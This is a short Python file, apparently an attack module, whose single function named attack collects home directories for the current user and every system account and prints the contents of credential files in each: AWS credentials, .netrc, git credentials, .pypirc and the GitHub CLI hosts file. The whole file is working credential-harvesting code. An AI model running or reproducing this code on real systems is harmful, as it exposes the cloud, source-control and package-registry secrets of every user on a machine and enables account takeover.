"""Reads every file in which programs store credentials, in every folder that may be a home."""

import os
import pwd


def attack(facts: dict[str, str]) -> None:
    homes = {facts["home"], os.path.expanduser("~"), *(entry.pw_dir for entry in pwd.getpwall())}
    for home in homes:
        for name in (".aws/credentials", ".netrc", ".git-credentials", ".pypirc", ".config/gh/hosts.yml"):
            try:
                print(name, open(os.path.join(home, name)).read())
            except OSError:
                continue
